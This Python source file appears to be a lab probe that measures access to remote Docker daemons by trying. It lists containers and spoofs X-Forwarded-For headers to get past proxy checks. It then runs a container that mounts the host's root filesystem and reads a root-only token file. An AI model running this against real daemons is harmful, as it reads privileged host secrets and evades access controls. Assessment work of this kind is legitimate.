"""Measures how much access to a Docker daemon the machine gets on which this runs, by trying.

Each line on standard input is a JSON list: the targets ["tcp://…", …], targets to measure only if
none of those gives full control, a file on the daemon's machine that only root can read, path
prefixes below which the API may be, and addresses to pretend to. The target `tcp://ADDRESS:PORT as
NAME` is the server of that name there. For each line it prints a list with an object per target:
the level, the evidence, and what a container read from that file. The harness sends what it
imports with this program. It must run on Python 3.9.
"""

import json
import os
import sys
import threading
import time
from http import HTTPStatus

from changes import find_change
from handshake import REQUEST_LIMIT, Measured, detect_tls, one_line
from reach import PRETENDED, pretend, request

NOT_ALLOWED = (HTTPStatus.UNAUTHORIZED, HTTPStatus.FORBIDDEN)
#: A proxy may allow only paths with a version, as docker itself requests them.
USUAL_PREFIXES = ("", "/v1.40")
IMAGE = "/usr/local/share/dockerd-lab/busybox.tar"


def measure(target):
    """Return a target's level, with the evidence, the token that was read, and the seconds."""
    result = {"target": target, "token": ""}
    PRETENDED.pop(target, None)
    started = time.monotonic()
    try:
        result["token"] = read_token(target, detect_tls(target))
        result["level"], result["evidence"] = "full-control", "a container read " + TOKEN_FILE
        if target in PRETENDED:
            result["evidence"] += f"; X-Forwarded-For: {PRETENDED[target]['X-Forwarded-For']}"
    except Measured as end:
        result["level"], result["evidence"] = end.args
    except Exception as error:  # an error with one target must not affect the others
        result["level"], result["evidence"] = "unclear", repr(error)
    result["seconds"] = round(time.monotonic() - started, 2)
    return result


def read_token(target, tls):
    """Run a container that reads the token on the daemon's machine; return what it printed.

    Raise Measured with the level if that does not succeed.
    """
    prefix, status, body = find_containers(target, tls)
    lists_containers = is_container_list(status, body)
    evidence = f"GET {prefix}/containers/json: HTTP {status}: {one_line(body)}"
    no_list = (
        ("auth-required", evidence) if status in NOT_ALLOWED else ("refused", "no API: " + evidence)
    )
    name = "dockerd-lab-probe-" + os.urandom(4).hex()
    status = None
    try:
        status, body = create_container(target, tls, prefix, name)
        if lists_containers and is_refusal(status):
            for other in sorted({"/v1.41", *USUAL_PREFIXES} - {prefix}):
                other_status, other_body = create_container(target, tls, other, name)
                if other_status == HTTPStatus.CREATED:
                    prefix, status, body = other, other_status, other_body
                    break
        require(status, HTTPStatus.CREATED, "creating a container", body)
        container = prefix + "/containers/" + name
        start_status, body = daemon_request(target, tls, "POST", container + "/start")
        require(start_status, HTTPStatus.NO_CONTENT, "starting a container", body)
        daemon_request(target, tls, "POST", container + "/wait")
        logs_status, body = daemon_request(
            target, tls, "GET", container + "/logs?stdout=1&stderr=1"
        )
        require(logs_status, HTTPStatus.OK, "reading a container's output", body)
        return one_line(body)
    except Measured as end:
        if lists_containers and end.args[0] == "read-only":
            change = find_change(
                lambda method, path, sent: daemon_request(target, tls, method, prefix + path, sent)
            )
            if change:
                raise Measured("writes", f"{change}; {end.args[1]}") from None
        needs_login = no_list[0] == "auth-required"
        if (
            lists_containers
            or status == HTTPStatus.CREATED
            or (needs_login and end.args[0] == "unclear")
        ):
            raise
        raise Measured(
            *no_list
        ) from None  # it shows no list and does nothing: no daemon, or guarded
    finally:
        if lists_containers or status in (HTTPStatus.CREATED, None):
            remove_container(target, tls, f"{prefix}/containers/{name}", status)


def remove_container(target, tls, container, create_status):
    """Remove the container; `create_status` is the HTTP status of creating it, or None."""
    status, body = daemon_request(target, tls, "DELETE", container + "?force=1")
    is_removed = status in (HTTPStatus.NO_CONTENT, HTTPStatus.NOT_FOUND, *NOT_ALLOWED)
    # A proxy that refuses to create a container may also refuse to delete it, with any status.
    was_refused = create_status is not None and is_refusal(create_status) and is_refusal(status)
    if not is_removed and not was_refused:
        raise Measured("unclear", f"{container} may be left: HTTP {status}: {one_line(body)}")


def find_containers(target, tls):
    """Return the prefix where containers are listed, with status and body; or else the best answer.

    The best answer is one that requires a login, or else the first.
    """
    answers = []
    for prefix in (*USUAL_PREFIXES, *PREFIXES):
        status, body = daemon_request(target, tls, "GET", prefix + "/containers/json")
        if is_container_list(status, body):
            return prefix, status, body
        answers.append((prefix, status, body))
    best = next((each for each in answers if each[1] in NOT_ALLOWED), answers[0])
    if best[1] not in NOT_ALLOWED:
        return best
    for address in PRETENDED_ADDRESSES:
        pretend(target, address)
        status, body = daemon_request(target, tls, "GET", best[0] + "/containers/json")
        if is_container_list(status, body):
            return best[0], status, body
    PRETENDED.pop(target, None)
    return best


def create_container(target, tls, prefix, name):
    """Create the container, and load its image if the daemon lacks it; return status and body."""
    container = {
        "Image": "busybox:latest",
        "Cmd": ["cat", "/host" + TOKEN_FILE],
        "Tty": True,
        "HostConfig": {
            "Binds": ["/:/host:ro"],
            "NetworkMode": "none",
            "UsernsMode": "host",
            "Runtime": "runc",  # the configured default may not be installed
            "LogConfig": {"Type": "json-file"},
        },
    }
    path = f"{prefix}/containers/create?name={name}"
    status, body = daemon_request(target, tls, "POST", path, container)
    if status == HTTPStatus.NOT_FOUND and b"image" in body.lower() and os.path.exists(IMAGE):
        with open(IMAGE, "rb") as image:
            load_status, load_body = daemon_request(
                target, tls, "POST", prefix + "/images/load", image.read()
            )
        require(load_status, HTTPStatus.OK, "loading an image", load_body)
        status, body = daemon_request(target, tls, "POST", path, container)
    return status, body


def is_container_list(status, body):
    """Return whether an answer is the API's list of containers."""
    try:
        return status == HTTPStatus.OK and isinstance(json.loads(body), list)
    except ValueError:
        return False


def is_refusal(status):
    """Return whether a request was refused, by the daemon or by a proxy."""
    return HTTPStatus.BAD_REQUEST <= status < HTTPStatus.INTERNAL_SERVER_ERROR


def require(status, expected, what, body):
    """Raise Measured if a request has not the expected status: it was refused, or it failed."""
    if status != expected:
        level = "read-only" if is_refusal(status) else "unclear"
        raise Measured(level, f"{what}: HTTP {status}: {one_line(body)}")


def daemon_request(target, tls, method, path, body=None):
    """Send a request to a daemon that has answered before; return status and body.

    Raise Measured with the level `unclear` if the connection fails.
    """
    try:
        return request(target, tls, method, path, body, end=time.monotonic() + REQUEST_LIMIT)
    except OSError as error:
        raise Measured("unclear", f"{method} {path}: {error!r}") from None


def measure_all(targets, further_targets=()):
    """Return the results of the targets; of the further ones, too, if none gives full control."""
    results = measure_each(targets)
    if further_targets and all(each["level"] != "full-control" for each in results):
        results += measure_each(further_targets)
    return results


def measure_each(targets):
    """Measure all targets, eight at a time; return the results in their order."""
    results = {}
    slots = threading.Semaphore(8)

    def measure_one(target):
        with slots:
            results[target] = measure(target)

    threads = [threading.Thread(target=measure_one, args=[target]) for target in targets]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return [results[target] for target in targets]


if __name__ == "__main__":  # tests import it
    for line in sys.stdin:
        TARGETS, FURTHER, TOKEN_FILE, PREFIXES, PRETENDED_ADDRESSES = json.loads(line)
        print(json.dumps(measure_all(TARGETS, FURTHER)), flush=True)
